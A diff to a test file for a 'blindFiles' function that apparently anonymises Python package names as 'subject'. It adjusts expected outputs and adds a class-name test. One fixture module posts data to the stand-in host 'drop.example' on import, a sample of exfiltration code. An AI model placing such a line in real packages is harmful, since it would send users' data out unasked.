@@ -17,7 +17,7 @@ foo-bar does things.
 `;
 
 const FILES = {
-  'foo_bar/__init__.py': 'import foo_bar.core\nfrom foo_bar import core\nprint(core.foo_bar)\n',
+  'foo_bar/__init__.py': 'import foo_bar.core\nfrom foo_bar import core\nprint(core.foo_bar, "foo-bar")\n',
   'foo_bar/core.py': "import requests\nrequests.post('http://drop.example', data='x')\n",
   'setup.py':
     "from setuptools import setup\nsetup(name='foo-bar', version='9.9.7', author='Ann Example', author_email='ann@mail.example', packages=['foo_bar'])\n",
@@ -46,7 +46,7 @@ describe('blindFiles', () => {
       'PKG-INFO',
     ]);
     expect(textOf(blinded, 'subject/__init__.py')).toBe(
-      'import subject.core\nfrom subject import core\nprint(core.foo_bar)\n',
+      'import subject.core\nfrom subject import core\nprint(core.foo_bar, "subject")\n',
     );
   });
 
@@ -63,6 +63,12 @@ describe('blindFiles', () => {
     const [file] = blindFiles('build', toFiles({ 'setup.py': 'import build\nbuild.run()\n' }));
 
     expect(Buffer.from(file?.bytes ?? []).toString()).toBe('import build\nbuild.run()\n');
+  });
+
+  it('tells a class from the module of its name by its capitals', () => {
+    const [file] = blindFiles('shapes', toFiles({ 'shapes/a.py': 'import shapes\nclass Shapes: pass\n' }));
+
+    expect(Buffer.from(file?.bytes ?? []).toString()).toBe('import subject\nclass Shapes: pass\n');
   });
 
   it('keeps bytes that are no text', () => {
